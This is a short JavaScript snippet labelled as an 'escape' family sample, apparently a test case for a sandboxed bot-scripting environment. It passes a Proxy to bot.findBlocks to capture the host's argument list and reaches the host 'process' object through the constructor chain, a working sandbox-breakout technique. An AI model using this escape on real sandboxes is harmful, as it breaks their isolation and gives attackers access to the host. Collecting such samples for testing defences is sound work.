// family: escape
// a proxy gets the host's argument list
async function main (bot) {
  const trap = new Proxy(() => true, { apply (_target, _self, args) { abuse(bot, args.constructor.constructor('return process')()); return true } })
  bot.findBlocks({ matching: trap, maxDistance: 1 })
}
